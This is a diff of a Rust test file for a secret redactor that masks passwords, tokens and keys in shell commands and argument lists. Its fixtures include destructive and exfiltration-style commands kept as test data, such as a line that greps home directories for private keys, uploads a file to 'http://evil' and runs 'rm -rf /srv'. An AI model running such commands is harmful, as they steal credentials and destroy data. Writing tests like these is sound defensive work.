@@ -9,17 +9,25 @@ fn redactor() -> Redactor {
 
 /// With each commitment as `[#]`.
 fn plain(text: &Bytes) -> String {
-    let text = String::from_utf8(text.as_slice().to_vec()).expect("UTF-8");
-    let mut parts = text.split("[secret:");
-    let first = parts.next().unwrap_or_default().to_owned();
-    parts.fold(first, |all, part| {
-        let (digits, rest) = part.split_once(']').expect("an end");
-        assert!(digits.len() == 2 * BYTES && digits.bytes().all(|b| b.is_ascii_hexdigit()), "{digits}");
-        format!("{all}[#]{rest}")
-    })
+    let (text, mut out, mut at) = (text.as_slice(), Vec::new(), 0);
+    for known in found::commitments(text) {
+        out.extend_from_slice(&text[at..known.start]);
+        out.extend_from_slice(b"[#]");
+        at = known.end;
+    }
+    out.extend_from_slice(&text[at..]);
+    String::from_utf8(out).expect("UTF-8")
 }
 
 fn line(text: &str) -> String {
+    let command = Command::Line(text.into());
+    match redactor().command(&command).unwrap_or(command) {
+        Command::Line(line) => plain(&line),
+        Command::Argv(_) => panic!("a line stays one"),
+    }
+}
+
+fn words(text: &str) -> String {
     let text = Bytes::from(text);
     plain(&redactor().text(&text).unwrap_or(text))
 }
@@ -32,6 +40,7 @@ fn argv(words: &[&str]) -> String {
 
 #[test]
 fn a_secret_in_a_line_is_found_and_nothing_else_of_it_goes() {
+    let mut wrong: Vec<(&str, String)> = Vec::new();
     for (text, expected) in [
         ("PGPASSWORD=hunter2 psql -c 'drop table x'", "PGPASSWORD=[#] psql -c 'drop table x'"),
         ("export DB_PASSWORD='a b'; ls", "export DB_PASSWORD='[#]'; ls"),
@@ -60,13 +69,32 @@ fn a_secret_in_a_line_is_found_and_nothing_else_of_it_goes() {
         ("openssl rsa -passin pass:hunter2 -in k", "openssl rsa -passin pass:[#] -in k"),
         ("curl https://hooks.slack.com/services/T0/B0/xyz -d a", "curl https://hooks.slack.com/services/[#] -d a"),
         (
-            "cat > k <<E\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----\nE",
-            "cat > k <<E\n-----BEGIN OPENSSH PRIVATE KEY-----[#]-----END OPENSSH PRIVATE KEY-----\nE",
+            "cat > k <<E\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA+/\nAAAAG5v=\n-----END OPENSSH PRIVATE KEY-----\nE",
+            "cat > k <<E\n-----BEGIN OPENSSH PRIVATE KEY-----\n[#]\n-----END OPENSSH PRIVATE KEY-----\nE",
         ),
-        // No secrets.
+        ("redis-cli -h cache -p 6379 -a hunter2", "redis-cli -h cache -p 6379 -a [#]"),
+        ("ldapsearch -x -p 389 -D cn=me -w hunter2", "ldapsearch -x -p 389 -D cn=me -w [#]"),
+        ("sudo mysql -phunter2 -e 'select 1; x'", "sudo mysql -p[#] -e 'select 1; x'"),
+        (
+            "docker exec db mysql -u root -e \"select 1; x\" -phunter2",
+            "docker exec db mysql -u root -e \"select 1; x\" -p[#]",
+        ),
+        ("curl -sku anna:hunter2 https://x", "curl -sku anna:[#] https://x"),
+        ("curl -uanna:hunter2 https://x", "curl -uanna:[#] https://x"),
+        ("DB_PASS=hunter2 SMTP_PASS='x y' run --pass hunter2", "DB_PASS=[#] SMTP_PASS='[#]' run --pass [#]"),
+        ("curl -d \"{\\\"password\\\":\\\"hunter2\\\"}\" x", "curl -d \"{\\\"password\\\":\\\"[#]\\\"}\" x"),
+        ("curl -H 'Authorization: Splunk abc-def' x", "curl -H 'Authorization: Splunk [#]' x"),
+        ("tool --password='$ecret' PGPASSWORD=$'hun' x", "tool --password='[#]' PGPASSWORD=$'[#]' x"),
+        ("PASSWORD=Xy7,kq9 x", "PASSWORD=[#] x"),
+        ("A_PASSWORD=\"a\\\"b\" x", "A_PASSWORD=\"[#]\" x"),
+        ("psql postgres://me:p@ss@db/x", "psql postgres://me:[#]@db/x"),
+        ("bash -c 'PGPASSWORD=hunter2 psql; ls'", "bash -c 'PGPASSWORD=[#] psql; ls'"),
+        ("PASSWORD=\"hunter2[secret:00000000000000000000000000000000]\" x", "PASSWORD=\"[#]\" x"),
+        // No secrets, and nothing that an auditor needs goes.
         ("rm -rf build && make", "rm -rf build && make"),
         ("PASSWORD=$DB_PASSWORD cmd --token \"$TOKEN\"", "PASSWORD=$DB_PASSWORD cmd --token \"$TOKEN\""),
         ("cmd --password=$(cat f)", "cmd --password=$(cat f)"),
+        ("cmd --password=`cat f`", "cmd --password=`cat f`"),
         ("PWD=/tmp OLDPWD=/x ls", "PWD=/tmp OLDPWD=/x ls"),
         (
             "llm --max_token=512 --tokenizer=fast --token-file=/x",
@@ -74,14 +102,42 @@ fn a_secret_in_a_line_is_found_and_nothing_else_of_it_goes() {
         ),
         ("docker build --secret id=npm,src=.npmrc .", "docker build --secret id=npm,src=.npmrc ."),
         ("docker run -u 1000:1000 x", "docker run -u 1000:1000 x"),
+        (
+            "docker run -u node:node --name mysql -p3306:3306 mysql",
+            "docker run -u node:node --name mysql -p3306:3306 mysql",
+        ),
+        ("date -u +%Y-%m-%dT%H:%M:%SZ; curl x", "date -u +%Y-%m-%dT%H:%M:%SZ; curl x"),
         ("kubectl get secret db -o yaml", "kubectl get secret db -o yaml"),
         ("grep -r password src", "grep -r password src"),
         ("ssh-keygen -p -f key", "ssh-keygen -p -f key"),
         ("curl http://localhost:8080/x", "curl http://localhost:8080/x"),
         ("scp a host:b", "scp a host:b"),
+        ("rg 'password=' -g '*.py' src", "rg 'password=' -g '*.py' src"),
+        ("echo 'password='; rm -rf /srv/data; echo 'x'", "echo 'password='; rm -rf /srv/data; echo 'x'"),
+        (
+            "grep -rn 'token=' src && rm -rf build && echo 'done'",
+            "grep -rn 'token=' src && rm -rf build && echo 'done'",
+        ),
+        (
+            "grep -e '-----BEGIN PRIVATE KEY-----' /home; curl -T x http://evil; rm -rf /srv",
+            "grep -e '-----BEGIN PRIVATE KEY-----' /home; curl -T x http://evil; rm -rf /srv",
+        ),
+        ("adduser --disabled-password --gecos '' anna", "adduser --disabled-password --gecos '' anna"),
+        ("psql --no-password -c \"DROP TABLE x\"", "psql --no-password -c \"DROP TABLE x\""),
+        ("mysql --password\nrm -rf /srv", "mysql --password\nrm -rf /srv"),
+        ("find /var/lib/mysql -print -perm 600", "find /var/lib/mysql -print -perm 600"),
+        ("sshpass -e ssh -p 2222 host", "sshpass -e ssh -p 2222 host"),
+        ("grep -i \"authorization:\" access.log", "grep -i \"authorization:\" access.log"),
+        ("git commit -m \"secret: rotate keys\"", "git commit -m \"secret: rotate keys\""),
+        ("echo 'interface A { password: string }' > a.ts", "echo 'interface A { password: string }' > a.ts"),
     ] {
-        assert_eq!(line(text), expected);
+        if line(text) != expected {
+            wrong.push((expected, line(text)));
+        }
     }
+    assert_eq!(wrong, []);
+    assert_eq!(words("because token=abcdefgh12 is old"), "because token=[#] is old");
+    assert_eq!(words("it's broken: password: hunter2"), "it's broken: password: [#]");
 }
 
 #[test]
@@ -97,7 +153,9 @@ fn an_argument_is_a_whole_value_whatever_is_in_it() {
         (&["curl", "-u", "anna:hunter2", "x"], "curl|-u|anna:[#]|x"),
         (&["docker", "login", "-p", "hunter2"], "docker|login|-p|[#]"),
         (&["docker", "run", "-p", "8080:80"], "docker|run|-p|8080:80"),
-        (&["env", "DB_PASSWORD=hunter2", "x"], "env|DB_PASSWORD=[#]|x"),
+        (&["env", "DB_PASSWORD=hun ter2", "x"], "env|DB_PASSWORD=[#]|x"),
+        (&["sudo", "mysql", "-phunter2"], "sudo|mysql|-p[#]"),
+        (&["tool", "--password", "$ecret"], "tool|--password|[#]"),
         (&["bash", "-c", "PGPASSWORD=hunter2 psql -c 'drop'"], "bash|-c|PGPASSWORD=[#] psql -c 'drop'"),
         (&["tool", "--api-key", "abcdefgh12"], "tool|--api-key|[#]"),
         (&["tool", "--token", "/run/secrets/x"], "tool|--token|/run/secrets/x"),
@@ -136,23 +194,32 @@ fn an_entry_loses_secrets_and_nothing_else() {
 }
 
 proptest! {
-    /// Redacted once more it is the same, and what is not a secret's is all there, in its order.
+    /// Redacted once more it is the same, in a line, in arguments and in a text; and all else is there, in its order.
     #[test]
     fn redacting_twice_is_redacting_once(words in prop::collection::vec(
         prop::sample::select(&[
             "--password", "hunter2", "PGPASSWORD=x1y2z3w4", "mysql", "-pabc", "://u:p@h", "token=", "'", "\"", "a b", "=", ":",
-            "Authorization:", "Bearer", "abcdefghijkl", "-u", "a:b", "ls", ";", "[secret:", "]", "\n",
-        ][..]), 0..12), glue in prop::sample::select(&[" ", ""][..])
+            "Authorization:", "Bearer", "abcdefghijkl", "-u", "a:b", "ls", ";", "[secret:", "]", "\n", "sshpass", "-p", "\\",
+            "redis-cli", "-a", "docker", "login", "curl", "$(", "PRIVATE KEY-----", "0123456789abcdef0123456789abcdef",
+        ][..]), 1..12), glue in prop::sample::select(&[" ", ""][..])
     ) {
         let text = Bytes::from(words.join(glue).as_str());
-        let once = redactor().text(&text).unwrap_or_else(|| text.clone());
-        let twice = redactor().text(&once).unwrap_or_else(|| once.clone());
-        prop_assert_eq!(&once, &twice, "{}", text.quoted());
-        let all: Vec<Bytes> = words.iter().map(|w| Bytes::from(*w)).collect();
-        for at in 0..all.len() {
-            let found = found::in_word(&all, at);
-            prop_assert!(found.iter().all(|r| r.end <= all[at].as_slice().len() && !r.is_empty()));
-            prop_assert!(found.windows(2).all(|w| w[0].end <= w[1].start));
+        let argv = Command::Argv(words.iter().map(|w| Bytes::from(*w)).collect());
+        for command in [Command::Line(text.clone()), argv] {
+            let once = redactor().command(&command).unwrap_or_else(|| command.clone());
+            let twice = redactor().command(&once).unwrap_or_else(|| once.clone());
+            prop_assert_eq!(&once, &twice, "{:?}", command);
+            for (before, after) in command.argv().iter().zip(once.argv().iter()) {
+                let parts = plain(after);
+                let mut rest = before.as_slice();
+                for part in parts.split("[#]") {
+                    let at = rest.windows(part.len().max(1)).position(|w| part.is_empty() || w == part.as_bytes());
+                    prop_assert!(part.is_empty() || at.is_some(), "{parts} of {}", before.quoted());
+                    rest = &rest[at.unwrap_or(0) + part.len()..];
+                }
+            }
         }
+        let once = redactor().text(&text).unwrap_or_else(|| text.clone());
+        prop_assert_eq!(redactor().text(&once).unwrap_or_else(|| once.clone()), once);
     }
 }
